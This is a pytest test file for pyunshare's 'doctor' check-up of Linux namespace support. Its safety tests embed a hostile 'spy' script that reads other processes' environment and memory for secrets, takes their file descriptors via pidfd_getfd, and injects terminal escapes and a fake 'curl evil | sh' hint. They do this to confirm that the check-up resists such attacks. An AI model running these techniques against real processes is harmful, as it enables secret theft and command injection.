"""The check-up: what it finds on machines whose faults are made for it."""

from __future__ import annotations

import contextlib
import json
import os
import posix
import pwd
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping, Sequence
from errno import ENOSPC, EPERM
from pathlib import Path
from typing import Any, Callable, NoReturn

import pytest

from pyunshare.diagnostics.system import System
from pyunshare.doctor import __main__ as main
from pyunshare.doctor import checks
from pyunshare.doctor.__main__ import restart, run
from pyunshare.doctor.report import Finding, Outcome, Report, Trial, _verdict
from pyunshare.errors import Failure
from tests.helpers import support
from tests.helpers.machine import needs
from tests.helpers.support import (
    PATIENCE,
    ROOT,
    WITH_SUBORDINATE_IDS,
    WITHOUT_SUBORDINATE_IDS,
    Program,
    Result,
    User,
    Word,
)

pytestmark = needs("root", "compiler", "user namespaces", "time namespaces", "cgroup namespaces")

EIGHT = ["-m --mount", "-u --uts", "-i --ipc", "-n --net", "-p --pid", "-U --user"]
EIGHT += ["-C --cgroup", "-T --time"]


def doctor(user: User = ROOT) -> Program:
    """The check-up, in a form that this user can execute."""
    start = support.command(user)
    is_python = start.arguments[:1] == ("-m",)
    interpreter = (
        start.file if is_python else sys.executable if user == ROOT else "/usr/bin/python3"
    )
    package = support.CHECKOUT if user == ROOT else support.copied_package()
    needed = (("PYTHONPATH", str(package)),)
    return Program(interpreter, interpreter, ("-m", "pyunshare.doctor"), needed)


def examine(
    *words: str,
    user: User = ROOT,
    conditions: Sequence[Word] = (),
    environment: Mapping[str, str] | None = None,
) -> Result:
    """Run the check-up."""
    found = {**support.ENVIRONMENT, **(environment or {})}
    return support.start(doctor(user), words, user=user, conditions=conditions, environment=found)


def findings(result: Result) -> dict[str, Any]:
    """What the check-up has found."""
    assert result.stderr == b"", result
    data = json.loads(result.stdout)
    assert isinstance(data, dict)
    return data


def test_the_documentation_names_all_that_is_found() -> None:
    _, _, told = (support.CHECKOUT / "docs" / "hints.md").read_text().rpartition("With `--json`")
    data = findings(examine("--json"))
    trial = data["options"][0]
    for name in {**data, **trial, **(trial["user"] or {})}:
        assert f"`{name}`" in told


def outcomes(data: dict[str, Any], who: str) -> dict[str, Any]:
    """What became of each trial, by its option."""
    return {found["option"]: found[who] for found in [*data["namespaces"], *data["options"]]}


def test_all_is_well_as_root() -> None:
    result = examine("--json", conditions=support.database_conditions())
    data = findings(result)
    assert result.status == 0, data
    assert data["works"] is True
    assert [found["option"] for found in data["namespaces"]] == EIGHT
    for who in ("root", "user"):
        found = outcomes(data, who)
        assert all(found[option]["works"] for option in [*EIGHT, "-r", "-pf --mount-proc"])
    assert data["user"] == {"name": "nobody", "uid": 65534}
    assert outcomes(data, "root")["--map-auto"]["works"]
    assert outcomes(data, "user")["--map-auto"] is None  # nobody is not to be given ids
    assert data["subordinate_ids"]["root"] == {"uid": [[100000, 65536]], "gid": [[100000, 65536]]}
    assert data["chroot"] is False
    assert data["seccomp_filter"] is False
    assert set(data["limits"]) >= {"user.max_user_namespaces", "user.max_time_namespaces"}


def test_all_is_well_in_words() -> None:
    result = examine(conditions=support.database_conditions())
    assert result.status == 0
    assert result.stderr == b""
    text = result.stdout.decode()
    for option in EIGHT:
        assert [line.split()[-2:] for line in result.lines if option in line] == [["works"] * 2]
    assert "  user.max_net_namespaces " in text
    assert "  newuidmap" in text
    assert result.lines[-1] == "Verdict: all that can be expected works for root and nobody"


@needs("newuidmap", "newgidmap")
@pytest.mark.parametrize("user", [WITH_SUBORDINATE_IDS, WITHOUT_SUBORDINATE_IDS])
def test_an_ordinary_user(user: User) -> None:
    result = examine("--json", user=user)
    data = findings(result)
    assert result.status == 0, data
    assert set(outcomes(data, "root").values()) == {None}
    found = outcomes(data, "user")
    assert all(found[option]["works"] for option in [*EIGHT, "-r", "-pf --mount-proc"])
    assert data["user"]["name"] == user.name
    assert found["--map-auto"]["works"] == (user == WITH_SUBORDINATE_IDS)
    if user == WITHOUT_SUBORDINATE_IDS:
        assert "usermod --add-subuids 365536-431071" in found["--map-auto"]["commands"][0]
    assert "not tried" in examine(user=user).stdout.decode()


def test_the_user_who_became_root_is_tried() -> None:
    result = examine(
        "--json",
        conditions=support.database_conditions(),
        environment={"SUDO_UID": str(WITH_SUBORDINATE_IDS.uid)},
    )
    assert findings(result)["user"]["name"] == WITH_SUBORDINATE_IDS.name
    result = examine("--json", environment={"SUDO_UID": "61003"})
    assert findings(result)["user"] == {"name": "61003", "uid": 61003}


def in_launch(script: str, *words: str) -> Result:
    """Run a shell script as the root of a user namespace, then the check-up."""
    program = doctor()
    line = [program.file, *program.arguments, *words]
    environment = {**support.ENVIRONMENT, **dict(program.environment)}
    return support.start(
        support.command(),
        ["-r", "/bin/sh", "-c", f'{script}; exec "$@"', "sh", *line],
        environment=environment,
    )


def test_a_limit_of_zero_is_found() -> None:
    result = in_launch("echo 0 >/proc/sys/user/max_net_namespaces", "--json")
    data = findings(result)
    assert result.status == 1
    found = outcomes(data, "root")
    assert [option for option in EIGHT if not found[option]["works"]] == ["-n --net"]
    assert found["-n --net"]["message"] == "unshare failed: No space left on device"
    assert found["-n --net"]["cause"].startswith("user.max_net_namespaces is 0")
    assert found["-n --net"]["commands"][0].startswith("sysctl -w user.max_net_namespaces=")
    # There is nobody else in that user namespace.
    assert set(outcomes(data, "user").values()) == {None}

    text = in_launch("echo 0 >/proc/sys/user/max_net_namespaces").stdout.decode()
    assert "\n  type: sysctl -w user.max_net_namespaces=" in text
    verdict = (
        "Verdict: what could be expected to work, and does not: -n --net; nothing could be tried "
        "as nobody"
    )
    assert text.splitlines()[-1] == verdict


def test_a_filter_is_found() -> None:
    result = examine("--json", conditions=[f"refuse={EPERM}:0x10000000"])
    data = findings(result)
    assert result.status == 1
    assert data["seccomp_filter"] is True
    assert outcomes(data, "root")["-m --mount"]["works"]
    assert not outcomes(data, "root")["-U --user"]["works"]
    assert not outcomes(data, "user")["-m --mount"]["works"]
    assert "seccomp filter" in outcomes(data, "user")["-m --mount"]["cause"]
    text = examine(conditions=[f"refuse={EPERM}:0x10000000"]).stdout.decode()
    assert text.count("a seccomp filter, set by") == 2  # once for each user, not for each option


@needs("newuidmap", "newgidmap")
def test_a_helper_without_power_is_found() -> None:
    conditions = ["mounts"]
    for tool in ("newuidmap", "newgidmap"):
        path = shutil.which(tool, path=support.STANDARD_PATH)
        assert path
        copy = support.new_directory() / tool
        shutil.copyfile(path, copy)
        copy.chmod(0o755)
        conditions.append(f"bind={copy}:{path}")
    result = examine("--json", user=WITH_SUBORDINATE_IDS, conditions=conditions)
    data = findings(result)
    assert result.status == 1
    found = outcomes(data, "user")["--map-auto"]
    assert "is neither set-user-ID root nor has it file capabilities" in found["cause"]
    assert "chmod u+s" in found["commands"][-1]
    assert data["helpers"]["newuidmap"]["privileged"] is False


def test_missing_helpers_are_no_fault_without_subordinate_ids() -> None:
    path = {"PATH": "/nonexistent"}
    result = examine("--json", user=WITHOUT_SUBORDINATE_IDS, environment=path)
    assert result.status == 0
    assert findings(result)["helpers"]["newuidmap"] == {"path": None, "privileged": None}
    text = examine(user=WITHOUT_SUBORDINATE_IDS, environment=path).stdout.decode()
    assert "  newuidmap  not in PATH" in text


@needs("newuidmap", "newgidmap")
def test_a_helper_that_hangs_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checks, "PATIENCE", 1)
    with checks._descendants_adopted(has_c_library=True):
        found = checks._tried(["-f"], System(), lambda pipe: time.sleep(PATIENCE))
    assert (found.works, found.message) == (False, "did not end in 1 seconds")


def test_the_check_up_in_this_process(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """As the programs above, where coverage can see it."""
    assert run(["--json"]) == 0
    assert json.loads(capfd.readouterr().out)["works"] is True

    def refuse(options: list[str], *others: object) -> Outcome:
        works = not {"--net", "--ipc"} & set(options)
        return Outcome(works, "no", "the cause", ["mend it"])

    monkeypatch.setattr(checks, "_tried", refuse)
    monkeypatch.setenv("SUDO_UID", "61003")
    assert run([]) == 1
    lines = capfd.readouterr().out.splitlines()
    assert "-i --ipc, -n --net, as root: no" in lines
    assert lines.count("  the cause") == 2  # for root, and for the user
    assert lines[-1].endswith(": -i --ipc, -n --net")

    monkeypatch.setattr(os, "geteuid", lambda: 61003)
    monkeypatch.setattr(checks, "_tried", lambda *_: Outcome(True))
    assert run([]) == 0
    lines = capfd.readouterr().out.splitlines()
    assert "  -n --net            not tried   works" in lines
    assert lines[-1] == "Verdict: all that can be expected works for 61003"


def test_no_launch_ends_unnoticed(monkeypatch: pytest.MonkeyPatch) -> None:
    """A SIGCHLD that is not blocked is lost before the wait for it begins."""
    wait = signal.sigtimedwait
    masks = []

    def watched(signals: list[int], seconds: float) -> signal.struct_siginfo | None:
        masks.append(signal.pthread_sigmask(signal.SIG_BLOCK, []))
        return wait(signals, seconds)

    monkeypatch.setattr(signal, "sigtimedwait", watched)
    checks.check()
    assert masks
    assert all(signal.SIGCHLD in mask for mask in masks)


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        (b"0 1 1 unshare \n", ("unshare", EPERM, "", 1, False)),
        (b"1 127 0 helper newuidmap\n", ("helper", None, "newuidmap", 127, True)),
        (b"0 1 1 write /proc/PID/uid_map\n", ("write", EPERM, "/proc/PID/uid_map", 1, False)),
        (b"0 1 1 type: curl\n", ("", EPERM, "", 1, False)),
        (b"0 1 1 curl|sh \n", ("", EPERM, "", 1, False)),
        (b"0 1 1 mount /\x1b[2J\n", ("mount", EPERM, "", 1, False)),
        (b"0 1 99999 mount /\n", None),
        (b"0 1 1 type: curl evil | sh\n", None),
        (b"", None),
    ],
)
def test_what_a_child_may_say(record: bytes, expected: tuple[object, ...] | None) -> None:
    found = checks.parse_record(record)
    if expected is None:
        assert found is None
    else:
        assert found is not None
        shown = found.step, found.errno, found.path, found.status, found.reported
        assert shown == expected


def test_who_is_tried_beside_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUDO_UID", "61003")
    assert checks.ordinary_user().name == "61003"
    for given in ("root", "", "0", "\u00b2", "-1", "4294967295", "9" * 20, "9" * 5000):
        monkeypatch.setenv("SUDO_UID", given)
        assert checks.ordinary_user().uid == checks.NOBODY
    monkeypatch.setattr(os, "getuid", lambda: 0o777777)
    assert checks.ordinary_user().uid == 0o777777


# ---- safety -------------------------------------------------------------------------------------

# Nobody else is: what is done to this user's processes must not meet those of other tests.
SPIED_ON = support.User("spied-on", *[support.unused_id()] * 2)

# A process of the user whom root's check-up tries: it looks into each process of that user, and
# takes and writes to what they have open; or it only stops them.
SPY = r"""
import ctypes, glob, os, signal, sys, time
library = ctypes.CDLL(None)
PIDFD_OPEN, PIDFD_GETFD = 434, 438
taken = []
def spy(pid):
    if sys.argv[1] == "stop":
        os.kill(pid, signal.SIGSTOP)
        return
    for file in ("environ", "mem"):
        try:
            with open(f"/proc/{pid}/{file}", "rb", 0) as content:
                spans = [(0, 1 << 20)]
                if file == "mem":
                    lines = open(f"/proc/{pid}/maps").read().splitlines()
                    spans = [line.split()[0].split("-") for line in lines if " rw" in line]
                    spans = [[int(number, 16) for number in span] for span in spans]
                for begin, end in spans:
                    content.seek(begin)
                    if b"top" + b"secret" in content.read(end - begin):
                        print("found a secret in", file, flush=True)
        except (OSError, ValueError):
            pass
    pidfd = library.syscall(PIDFD_OPEN, pid, 0)
    for fd in range(10):
        own = library.syscall(PIDFD_GETFD, pidfd, fd, 0)
        if own >= 0:
            print("took", os.readlink(f"/proc/self/fd/{own}").partition(":")[0], flush=True)
            try:
                os.write(own, b"\x1b[2Jx: y\nx: hint: z\nx: hint: type: curl evil | sh\n")
            except OSError:
                pass
            taken.append(own)
print("ready", flush=True)
seen = {os.getpid()}
parent = os.getppid()
while os.getppid() == parent:  # tests may be killed
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path[6:])
        try:
            if pid not in seen and os.stat(path).st_uid == os.getuid():
                spy(pid)
                if sys.argv[1] == "stop" or len(taken) > 200:
                    seen.add(pid)
        except OSError:
            pass
"""


@contextlib.contextmanager
def spying(how: str) -> Iterator[subprocess.Popen[bytes]]:
    """A process of an ordinary user that looks at the others of that user."""
    user = support.user_condition(SPIED_ON)
    python = "/usr/bin/python3"
    line = [str(support.compiled("start")), user, "--", python, python, "-Ic", SPY, how]
    with support.popen(line) as process:
        assert process.stdout
        assert process.stdout.readline() == b"ready\n"
        try:
            yield process
        finally:
            process.kill()


TRIES_THE_SPY = {"SUDO_UID": str(SPIED_ON.uid), "SECRET": "topsecret"}


def test_root_is_told_nothing_by_the_user_who_is_tried() -> None:
    conditions = support.database_conditions()
    with spying("take") as spy:
        for _ in range(3):
            result = examine(conditions=conditions, environment=TRIES_THE_SPY)
            assert b"evil" not in result.stdout + result.stderr
            assert b"\x1b" not in result.stdout + result.stderr
            assert b"hint" not in result.stdout
        spy.kill()
        assert spy.stdout
        said = spy.stdout.read()
    assert b"secret" not in said
    assert b"/dev/pts" not in said


def test_a_user_who_stops_what_is_tried_stops_nothing_else() -> None:
    with spying("stop"):
        begin = time.monotonic()
        code = (
            "from pyunshare.doctor import checks; checks.PATIENCE = 0.5; "
            "from pyunshare.doctor.__main__ import run; run([])"
        )
        line = [sys.executable, "-c", code]
        environment = {**support.ENVIRONMENT, **TRIES_THE_SPY, "PYTHONPATH": support.IMPORTABLE}
        result = support.run(line, environment=environment)
        assert time.monotonic() - begin < PATIENCE
    assert result.status in (0, 1), result
    assert b"Verdict: " in result.stdout
    assert result.stderr == b""


def test_a_user_who_stops_all_is_not_waited_for(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whatever moment comes next to that of becoming the user."""
    monkeypatch.setattr(checks, "PATIENCE", 0.1)
    stopped = lambda user: lambda pipe=-1: os.kill(os.getpid(), signal.SIGSTOP)  # noqa: E731
    monkeypatch.setattr(checks, "_becoming", stopped)
    found = checks.check().outcomes
    messages = {outcome.message for _, who, outcome in found if who != "root"}
    assert messages == {"did not end in 0 seconds"}


def test_nothing_is_taken_from_the_working_directory(tmp_path: Path) -> None:
    """Without -I Python itself may take a module from there, but the check-up takes none."""
    tmp_path.chmod(0o755)
    for name in ("argparse", "json", "signal", "pwd", "shutil", "platform", "os", "ctypes"):
        (tmp_path / f"{name}.py").write_text("raise SystemExit('TRAPPED')\n")
    program = doctor()
    line = [program.file, *program.arguments]
    environment = {**support.ENVIRONMENT, **dict(program.environment)}
    done = subprocess.run(line, cwd=tmp_path, env=environment, capture_output=True, check=False)
    assert b"TRAPPED" not in done.stdout + done.stderr
    assert b"Verdict: " in done.stdout


@pytest.mark.parametrize("given", ["9" * 20, "9" * 5000, "\u00b2", "x", "4294967294"])
def test_a_user_who_cannot_be_is_not_tried(given: str) -> None:
    conditions = support.database_conditions()
    result = examine(conditions=conditions, environment={"SUDO_UID": given})
    assert result.stderr == b""
    if given == "4294967294":
        assert " works for root and 4294967294; " in result.lines[-1]
    else:
        assert result.lines[-1] == "Verdict: all that can be expected works for root and nobody"


def test_a_user_whose_groups_cannot_be_told(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> NoReturn:
        raise OSError(EPERM, "refused")

    monkeypatch.setattr(os, "getgrouplist", refuse)
    monkeypatch.setattr("pwd.getpwuid", lambda uid: pwd.struct_passwd(("a", "x", uid, 7, *"ghs")))
    assert checks.ordinary_user().groups == [7]


def test_what_a_child_says_is_understood() -> None:
    reading, writing = os.pipe()
    recorder = checks._Recorder(writing)
    given = Failure("x", EPERM, step="write", path=f"/proc/{os.getpid()}/uid_map")
    assert recorder.report(given) == 1
    recorder.stop_loading()
    found = checks.parse_record(os.read(reading, checks.LONGEST_RECORD))
    os.close(reading)
    os.close(writing)
    assert found
    assert (found.step, found.errno, found.path) == ("write", EPERM, "/proc/PID/uid_map")
    assert recorder.report(given) == 1  # nobody listens any more


def test_what_a_launch_leaves_behind_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    def leave(*_: object) -> int:
        if os.fork() == 0:
            time.sleep(PATIENCE)
        return 0

    monkeypatch.setattr(checks, "_be_launch", leave)
    with checks._descendants_adopted(has_c_library=True):
        assert checks._run([], None) == (0, b"")
        assert support.left_over_children() == []


def test_a_report_that_cannot_be_written(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def refuse(*_: object) -> NoReturn:
        raise OSError(ENOSPC, os.strerror(ENOSPC))

    monkeypatch.setattr(checks, "_tried", lambda *_: Outcome(True))
    monkeypatch.setattr("pyunshare.syscalls.write_all", refuse)
    with pytest.raises(SystemExit) as caught:
        run([])
    assert caught.value.code == 1
    assert capsys.readouterr().err.endswith(": write error: No space left on device\n")


def test_it_begins_anew_with_little_of_its_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """By the interpreter's own file, or by its name where there is no proc."""
    executed: list[tuple[str, list[object], dict[bytes, bytes]]] = []

    def execute(path: str, argv: list[object], env: dict[bytes, bytes]) -> None:
        executed.append((path, argv, env))
        if path.startswith("/proc/"):
            raise FileNotFoundError

    monkeypatch.setattr(posix, "execve", execute)
    monkeypatch.setattr(
        posix, "environ", {b"SUDO_UID": b"7", b"LD_LIBRARY_PATH": b"/l", b"A": b"1"}
    )
    monkeypatch.setattr(sys, "executable", "/x/python3")
    restart(["-c", "code", "/"], ["--json"])
    argv = ["/x/python3", "-ISXutf8", "-c", "code", "/", "1", b"SUDO_UID=7", "--json"]
    env = {b"LD_LIBRARY_PATH": b"/l"}
    assert executed == [("/proc/self/exe", argv, env), ("/x/python3", argv, env)]


def test_what_has_begun_anew_takes_its_environment_up(monkeypatch: pytest.MonkeyPatch) -> None:
    def begun() -> str:
        seen: list[object] = []
        monkeypatch.setattr(main, "run", lambda argv: seen.append((argv, posix.environ)))
        with contextlib.suppress(SystemExit):
            main.begin(["2", "PATH=/x=y", "SUDO_UID=7", "--json"])
        return str(seen)

    expected = [(["--json"], {b"PATH": b"/x=y", b"SUDO_UID": b"7"})]
    assert support.in_a_child(begun) == str(expected)


def test_verdicts(tmp_path: Path) -> None:
    """What is said where little could be tried, or fails as expected."""
    system = System(str(tmp_path))

    def verdict(as_root: Outcome | None, has_c_library: bool = True) -> list[str]:
        trial = Trial("--mount-binfmt", [], [], False)
        found = [Finding(trial, as_root, None)]
        report = Report("a", 5, system, found, found, has_c_library)
        return _verdict(report)

    assert verdict(None) == ["Verdict: nothing could be tried; nothing could be tried as a"]
    assert verdict(Outcome(False))[-1] == (
        "Verdict: all that can be expected works for root; what fails takes more than is there: "
        "--mount-binfmt; nothing could be tried as a"
    )
    assert verdict(None, has_c_library=False)[0].startswith("This Python has no ctypes")


def test_who_cannot_be_tried_is_said_so() -> None:
    last = in_launch("true").stdout.decode().splitlines()[-1]
    assert last.endswith("; nothing could be tried as nobody")


def test_a_python_without_ctypes() -> None:
    code = (
        "import sys; sys.modules['_ctypes'] = sys.modules['ctypes'] = None; "
        "from pyunshare.doctor.__main__ import run; sys.exit(run(sys.argv[1:]))"
    )
    environment = {**support.ENVIRONMENT, "PYTHONPATH": support.IMPORTABLE}
    result = support.run([sys.executable, "-c", code], environment=environment)
    assert result.status == 1
    assert result.stderr == b""
    assert "This Python has no ctypes, without which few launches work" in result.stdout.decode()
    result = support.run([sys.executable, "-c", code, "--json"], environment=environment)
    assert json.loads(result.stdout)["ctypes"] is False


def test_bad_arguments_get_one_line() -> None:
    result = examine("--nonsense")
    assert result.status == 2
    assert b"Traceback" not in result.stderr
    assert result.stderr.splitlines()[-1].endswith(b"error: unrecognized arguments: --nonsense")
    assert examine("--help").status == 0


def test_output_that_cannot_be_written() -> None:
    with open("/dev/full", "wb") as full:
        result = support.start(doctor(), [], stdout=full.fileno())
    assert result.status == 1
    assert result.stderr == (b"pyunshare.doctor: write error: No space left on device\n")


# ---- in one file --------------------------------------------------------------------------------


def test_the_check_up_in_one_file(tmp_path: Path) -> None:
    archive = support.new_directory() / "pyunshare.pyz"
    maker = support.CHECKOUT / "building" / "one_file.py"
    subprocess.run([sys.executable, "-B", str(maker), "--output", str(archive)], check=True)
    (tmp_path / "argparse.py").write_text("raise SystemExit('TRAPPED')\n")
    line = [sys.executable, "-ISXutf8", str(archive), "--doctor"]

    def check_up(*words: str) -> subprocess.CompletedProcess[bytes]:
        environment = dict(support.ENVIRONMENT)
        return subprocess.run(
            [*line, *words], cwd=tmp_path, env=environment, capture_output=True, check=False
        )

    done = check_up("--json")
    assert done.stderr == b""
    found = json.loads(done.stdout)
    assert [each["option"] for each in found["namespaces"]] == EIGHT
    assert outcomes(found, "user")["-r"]["works"]
    assert b"Verdict: " in check_up().stdout
    assert check_up("--nonsense").returncode == 2
    # Under another name the word is no option, as it is none of unshare(1).
    named = archive.with_name("unshare")
    named.symlink_to(archive)
    done = subprocess.run([*line[:-2], str(named), "--doctor"], capture_output=True, check=False)
    assert done.stderr.startswith(b"unshare: unrecognized option '--doctor'\n")


def test_a_check_up_without_proc() -> None:
    result = examine(conditions=["mounts", "tmpfs=/proc"])
    assert b"Traceback" not in result.stderr
    assert b"  covered in /proc                              not mounted\n" in result.stdout
    assert b"no proc is mounted on /proc" in result.stdout


@pytest.mark.parametrize(
    "conditions",
    [["tmpfs=/dev"], [f"bind=/dev/null:{os.path.realpath('/bin/true')}"]],
    ids=["no devices", "no program"],
)
def test_a_small_root_is_not_at_fault(conditions: list[str]) -> None:
    """All that is launched needs neither /dev/null nor true(1)."""
    given = [*support.database_conditions(), *conditions]
    data = findings(examine("--json", conditions=given))
    for who in ("root", "user"):
        found = outcomes(data, who)
        assert all(found[option]["works"] for option in [*EIGHT, "-r", "-pf --mount-proc"]), found


def test_a_program_that_the_user_cannot_execute_is_named() -> None:
    directory = support.new_directory()
    shutil.copy(shutil.which("true") or "", directory / "true")
    directory.chmod(0o755)
    (directory / "true").chmod(0o744)
    data = findings(examine("--json", environment={"PATH": f"{directory}:{support.STANDARD_PATH}"}))
    outcome = outcomes(data, "user")["-r"]
    assert outcome["message"] == f"executing {directory}/true failed: Permission denied"
    assert outcome["cause"] == ""


# ---- one launch, where coverage can see it -------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "become", "message"),
    [
        (["--uts=/no/such"], None, "mount failed: No such file or directory"),
        (["--mount-proc=/no/such"], None, "mount failed: No such file or directory"),
        (["-r", "-pf"], lambda pipe: os.kill(os.getpid(), 9), "killed by signal 9"),
        (["-r"], lambda pipe: os._exit(3), "fails"),
        (["-r", "-S", "5"], None, "setuid failed: Invalid argument"),
        (["--map-users", "1:2"], None, "the launch failed"),
    ],
    ids=str,
)
def test_what_is_found_of_a_launch(
    options: list[str], become: Callable[[int], None] | None, message: str
) -> None:
    with checks._descendants_adopted(has_c_library=True):
        found = checks._tried(options, System(), become)
    assert (found.works, found.message) == (False, message)


def test_a_launch_that_works_and_forks() -> None:
    with checks._descendants_adopted(has_c_library=True):
        assert checks._tried(["-rpf", "--mount-proc"], System()).works
